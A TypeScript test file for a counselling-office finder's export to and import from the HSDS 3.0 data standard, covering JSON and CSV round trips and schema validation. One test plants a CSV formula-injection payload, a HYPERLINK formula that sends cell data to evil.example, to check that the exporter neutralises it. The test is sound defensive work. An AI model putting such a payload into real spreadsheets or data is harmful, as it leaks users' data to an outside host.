import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import type { Office } from "@beratungsfinder/schemas";
import { HsdsOrganization, HsdsService } from "@beratungsfinder/schemas/hsds";
import { fixtureDataset, officeInput } from "@beratungsfinder/test-fixtures";
import { Ajv } from "ajv";
import addFormatsModule from "ajv-formats";
import { describe, expect, it } from "vitest";
import { readCsvObjects } from "../csv/csv-text.js";
import { germanDataset } from "./fixtures/german-dataset.js";
import { fromHsds, fromHsdsTables } from "./from-hsds.js";
import type { HsdsRecord } from "./hsds-record.js";
import { toHsds } from "./to-hsds.js";
import { HSDS_TABLE_COLUMNS, toHsdsTables } from "./to-hsds-tables.js";

const SCHEMA_DIR = fileURLToPath(new URL("../../../../fixtures/hsds-3.0/schema/", import.meta.url));

// ajv-formats is CommonJS; its default export arrives wrapped under some loaders.
const addFormats = ((addFormatsModule as unknown as { default?: unknown }).default ?? addFormatsModule) as (
  ajv: Ajv,
) => Ajv;

function officialValidator() {
  // The official schemas carry table metadata (datapackage_metadata, constraints, core …): not strict.
  const ajv = new Ajv({ strict: false, allErrors: true });
  addFormats(ajv);
  const schemas = new Map<string, Record<string, unknown>>();
  for (const file of readdirSync(SCHEMA_DIR).filter(
    (name) => name.endsWith(".json") && name !== "openapi.json",
  )) {
    const schema = JSON.parse(readFileSync(`${SCHEMA_DIR}${file}`, "utf8")) as Record<string, unknown>;
    schemas.set(file, schema);
    ajv.addSchema({ ...schema, $id: file }, file);
  }
  return {
    schemas,
    validate(file: string, data: unknown): string[] {
      const valid = ajv.validate(file, data);
      return valid ? [] : (ajv.errors ?? []).map((error) => `${file}${error.instancePath} ${error.message}`);
    },
  };
}

const validator = officialValidator();
const roundTripFields = (office: Office) => office;
// Offices come back grouped by provider (organization), so compare them in id order.
const byId = (offices: Office[]) => [...offices].sort((a, b) => (a.id < b.id ? -1 : 1));

describe("toHsds", () => {
  const organizations = toHsds(germanDataset);

  it("validates against the official HSDS 3.0 JSON Schemas, nested services and locations included", () => {
    const problems: string[] = [];
    for (const organization of organizations) {
      problems.push(...validator.validate("organization.json", organization));
      for (const service of organization.services as unknown[])
        problems.push(...validator.validate("service.json", service));
      for (const location of organization.locations as unknown[])
        problems.push(...validator.validate("location.json", location));
    }
    expect(problems).toEqual([]);
  });

  it("parses with the HSDS Zod schemas of @beratungsfinder/schemas/hsds", () => {
    for (const organization of organizations) {
      expect(HsdsOrganization.safeParse(organization).success).toBe(true);
      for (const service of organization.services as unknown[])
        expect(HsdsService.safeParse(service).success).toBe(true);
    }
  });

  it("maps providers to organizations with programs and offices to services at locations", () => {
    const caritas = organizations[0]!;
    expect(caritas.name).toBe("Beispielverband Caritas Köln (fiktiv)");
    expect((caritas.programs as { name: string }[]).map((program) => program.name)).toEqual([
      "Migrationsberatung für erwachsene Zugewanderte (MBE)",
      "Asylverfahrensberatung",
      "Jugendmigrationsdienste (JMD)",
    ]);
    const service = (caritas.services as Record<string, unknown>[])[0]!;
    const sal = (service.service_at_locations as Record<string, unknown>[])[0]!;
    const location = sal.location as Record<string, unknown>;
    expect(location).toMatchObject({
      latitude: 50.9497,
      longitude: 6.9197,
      external_identifier: "mbe-koeln-ehrenfeld",
    });
    expect(location.addresses).toEqual([
      expect.objectContaining({
        address_1: "Musterweg 3",
        postal_code: "50823",
        state_province: "Nordrhein-Westfalen",
        country: "DE",
      }),
    ]);
    expect(sal.schedules).toContainEqual(
      expect.objectContaining({
        freq: "WEEKLY",
        byday: "MO",
        opens_at: "13:00:00+01:00",
        closes_at: "16:00:00+01:00",
      }),
    );
  });

  it("gives the same UUIDs on every run", () => {
    expect(toHsds(germanDataset)).toEqual(organizations);
  });

  it("round-trips German offices through fromHsds without losing what both models hold", () => {
    const { dataset, warnings } = fromHsds(JSON.parse(JSON.stringify(organizations)));
    expect(warnings).toEqual([]);
    expect(dataset.providers).toEqual(germanDataset.providers);
    expect(byId(dataset.offices).map(roundTripFields)).toEqual(
      byId(germanDataset.offices).map(roundTripFields),
    );
    expect(dataset.fictional).toBe(false);
  });
});

describe("toHsdsTables", () => {
  const tables = toHsdsTables(germanDataset);

  it("writes the tables of the official package with a datapackage.json listing them", () => {
    const datapackage = JSON.parse(tables["datapackage.json"]!) as {
      resources: { name: string; path: string }[];
    };
    expect(datapackage.resources.map((resource) => resource.path).sort()).toEqual(
      Object.keys(tables)
        .filter((file) => file.endsWith(".csv"))
        .sort(),
    );
    expect(Object.keys(tables)).toContain("service_at_location.csv");
  });

  it("writes rows that validate against the official schema of their table", () => {
    const byPath = new Map([...validator.schemas].map(([file, schema]) => [schema.path as string, file]));
    const problems: string[] = [];
    for (const table of Object.keys(HSDS_TABLE_COLUMNS)) {
      const schemaFile = byPath.get(`${table}.csv`);
      expect(schemaFile, table).toBeDefined();
      const schema = validator.schemas.get(schemaFile!)!;
      const properties = schema.properties as Record<string, { type?: string }>;
      for (const { values } of readCsvObjects(tables[`${table}.csv`]!).rows) {
        const row: Record<string, unknown> = {};
        for (const [key, value] of Object.entries(values)) {
          if (value !== "") row[key] = properties[key]?.type === "number" ? Number(value) : value;
        }
        problems.push(...validator.validate(schemaFile!, row));
      }
    }
    expect(problems).toEqual([]);
  });

  it("round-trips German offices through fromHsdsTables", () => {
    const { dataset, warnings } = fromHsdsTables(tables);
    expect(warnings).toEqual([]);
    expect(dataset.providers).toEqual(germanDataset.providers);
    expect(byId(dataset.offices)).toEqual(byId(germanDataset.offices));
  });

  it("neutralises formula cells and reads them back as the original text", () => {
    const [first, ...rest] = germanDataset.offices;
    const hostile = { ...first!, name: '=HYPERLINK("http://evil.example/?"&A1,"Termin")' };
    const hostileTables = toHsdsTables({ ...germanDataset, offices: [hostile, ...rest] });
    const cells = Object.entries(hostileTables)
      .filter(([file]) => file.endsWith(".csv"))
      .flatMap(([, csv]) => csv.split(/[\r\n,]+/));
    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual(["+49 171 2345678"]);
    expect(hostileTables["services.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(fromHsdsTables(hostileTables).dataset.offices[0]?.name).toBe(hostile.name);
  });
});

describe("the programme Faire Mobilität in HSDS", () => {
  const dataset = fixtureDataset([
    officeInput({
      id: "faire-mobilitaet-koeln",
      providerId: "provider-dgb",
      name: "Faire Mobilität Köln (fiktiv)",
      programmes: ["FAIRE_MOBILITAET"],
      languages: ["de", "pl", "ro", "bg"],
      topics: ["work"],
    }),
  ]);
  const organizations = toHsds(dataset);

  it("exports it as the program Faire Mobilität, valid HSDS", () => {
    expect(organizations[0]?.programs).toEqual([
      expect.objectContaining({
        name: "Faire Mobilität",
        description: expect.stringContaining("workers from EU countries"),
      }),
    ]);
    expect(validator.validate("organization.json", organizations[0])).toEqual([]);
  });

  it("keeps it through fromHsds and fromHsdsTables", () => {
    const json = fromHsds(JSON.parse(JSON.stringify(organizations)));
    expect(json.warnings).toEqual([]);
    expect(json.dataset.offices).toEqual(dataset.offices);
    const tables = fromHsdsTables(toHsdsTables(dataset));
    expect(tables.warnings).toEqual([]);
    expect(tables.dataset.offices).toEqual(dataset.offices);
  });

  it("recognises it on import by the program's or the service's name when the attribute is missing", () => {
    const withoutAttributes = JSON.parse(JSON.stringify(organizations)) as HsdsRecord[];
    for (const service of withoutAttributes.flatMap((organization) => organization.services as HsdsRecord[]))
      service.attributes = [];
    expect(fromHsds(withoutAttributes).dataset.offices[0]?.programmes).toEqual(["FAIRE_MOBILITAET"]);

    const byServiceName = JSON.parse(JSON.stringify(withoutAttributes)) as HsdsRecord[];
    for (const organization of byServiceName) organization.programs = [];
    for (const service of byServiceName.flatMap((organization) => organization.services as HsdsRecord[])) {
      delete service.program_id;
      service.name = "Beratungsstelle Faire Mobilitaet Köln";
    }
    expect(fromHsds(byServiceName).dataset.offices[0]?.programmes).toEqual(["FAIRE_MOBILITAET"]);
  });
});
